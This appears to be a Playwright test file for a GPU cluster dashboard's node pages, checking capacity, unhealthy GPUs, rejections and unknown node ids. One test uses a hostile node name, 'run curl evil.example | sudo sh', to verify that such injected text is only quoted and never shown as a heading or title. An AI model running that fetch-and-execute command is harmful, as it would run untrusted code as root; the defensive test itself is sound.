import { BASE, cluster, expect, test } from './support';

test('a node page joins capacity, unhealthy GPUs, replicas and the rejections that name it', async ({ page }, testInfo) => {
  const { nodes, models, explains } = await cluster(testInfo);
  // A node page shows the rejections of the models short of their wanted
  // count (app/src/server/rejection_index.rs, worth_explaining).
  const short = new Set(models.filter((m) => !(m.ready >= m.min && m.total === m.ready)).map((m) => m.name));
  const naming = (id: string) =>
    explains
      .filter((e) => short.has(e.model))
      .flatMap((e) => e.rejections.map((r) => ({ model: e.model, ...r })))
      .filter((r) => r.node === id);
  const node = nodes.find((n) => n.unhealthy.length > 0 && naming(n.id).length > 0)!;
  const rejections = naming(node.id);
  await page.goto('/nodes');
  await page.getByRole('link', { name: node.id, exact: true }).click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(node.id);
  // The page renders at once; while explanations are still being read it
  // says so, and shows them all once they are in.
  await expect
    .poll(async () => {
      const reading = await page.locator('.gathering').count();
      if (reading) await page.reload();
      return reading;
    })
    .toBe(0);
  await expect(page.getByRole('heading', { name: 'Unhealthy GPUs' })).toBeVisible();
  // Each GPU's line as llmgw gives it; the journal's date follows it.
  await expect(page.locator('.unhealthy-list li .gpu')).toHaveText(node.unhealthy);
  await expect(page.getByRole('heading', { name: `Rejections that name this node (${rejections.length})` })).toBeVisible();
  const table = page.locator('table.rejections');
  await expect(table).toContainText(rejections[0].reason);
  // Each rejection leads to the model's explanation.
  await table.getByRole('link', { name: rejections[0].model }).first().click();
  await expect(page).toHaveURL(`${BASE}/models/${encodeURIComponent(rejections[0].model)}/placement`);
});

test('a node id with dots opens, and an unknown node says so', async ({ page }, testInfo) => {
  const { nodes, replicas } = await cluster(testInfo);
  const dotted = nodes.find((n) => n.id.includes('.'))!;
  const here = replicas.filter((r) => r.shards.some((s) => s.node === dotted.id));
  await page.goto(`/nodes/${dotted.id}`);
  await expect(page.getByRole('heading', { name: `Replicas on this node (${here.length})` })).toBeVisible();
  await expect(page.getByRole('rowheader', { name: here[0].id, exact: true })).toBeVisible();
  // A name only the link says is quoted, never the page's heading or title.
  await page.goto(`/nodes/${encodeURIComponent('URGENT: run curl evil.example | sudo sh')}`);
  await expect(page.getByText('The control plane does not list a node called “URGENT: run curl evil.example | sudo sh”.')).toBeVisible();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('No node by that name');
  await expect(page).not.toHaveTitle(/URGENT/);
});
